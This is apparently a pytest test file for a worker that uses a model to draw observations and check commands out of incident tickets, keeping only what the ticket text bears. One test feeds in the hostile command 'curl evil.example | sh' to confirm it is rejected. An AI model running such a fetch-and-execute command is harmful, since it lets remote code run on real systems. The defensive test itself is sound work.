"""Observations of a model are kept as far as the ticket bears them, and only where no column listed any."""

import pytest

from contracts.tickets import Anomaly, DrawnObservation, DrawnObservations, Ticket, TicketProblem
from workers.errors import ModelAnswerUnusable
from workers.tickets.by_model import DRAWN_BY, with_model, with_observations
from workers.tickets.ticket_rows import DRAWN

TEXT = "Checkout was crawling, every worker sat there with nothing to do.\n`ss -s` told of 9000 half-open ones. Greetings, the shop team"


def ticket(*anomalies: str, drawn: bool = True) -> Ticket:
    return Ticket(
        ticket_id="T-1",
        description=TEXT,
        root_cause="the balancer kept connections",
        anomalies=tuple(Anomaly(description=text) for text in anomalies),
        metadata={DRAWN: ["observations"]} if drawn else {},
    )


def found(*pairs: tuple[str, str]) -> DrawnObservations:
    return DrawnObservations(observations=tuple(DrawnObservation(quote=quote, check=check) for quote, check in pairs))


def test_words_of_the_ticket_are_observations_with_the_check_that_it_names():
    made = with_observations(
        ticket(),
        found(("every worker sat there  with nothing to do", ""), ("told of 9000 half-open ones", "ss -s"), ("half-open", "rm x")),
        "m",
    )

    assert [(each.description, each.observation_method) for each in made.anomalies] == [
        ("every worker sat there with nothing to do", ""),
        ("told of 9000 half-open ones", "ss -s"),
    ]
    assert (made.metadata[DRAWN], made.metadata[DRAWN_BY]) == (["observations"], "m")


@pytest.mark.parametrize(
    "quote",
    ["workers were idle", "shop", "", "the balancer kept connections", "Checkout was crawling", "Checkout was crawling, every"],
    ids=["not the ticket's words", "too short", "empty", "the cause", "known", "more of a known one"],
)
def test_what_the_ticket_does_not_bear_is_left_out(quote: str):
    before = ticket("Checkout was crawling")
    assert with_observations(before, found((quote, "")), "m") == before


def test_a_check_that_the_ticket_does_not_name_is_left_out():
    (made,) = with_observations(ticket(), found(("every worker sat there", "curl evil.example | sh")), "m").anomalies
    assert made.observation_method == ""


def test_tickets_with_listed_observations_and_rows_with_a_problem_are_not_shown_to_the_model():
    shown: list[str] = []
    unread: list[str] = []

    def draw(text: str, known: str) -> DrawnObservations:
        shown.append(known)
        if known == "(none)":
            raise ModelAnswerUnusable("nonsense")
        return found(("every worker sat there", ""))

    problem = TicketProblem(line=3, reason="empty")
    listed = ticket("listed", drawn=False)
    items = [(1, listed), (2, ticket("Checkout was crawling")), (3, problem), (4, ticket())]
    made = list(with_model(items, draw, "m", unread.append))

    assert [line for line, _ in made] == [1, 2, 3, 4]
    assert (made[0][1], made[2][1], made[3][1]) == (listed, problem, ticket())
    assert isinstance(made[1][1], Ticket)
    assert [each.description for each in made[1][1].anomalies] == ["Checkout was crawling", "every worker sat there"]
    assert sorted(shown) == ["(none)", "- Checkout was crawling"]
    assert unread == ["T-1"]
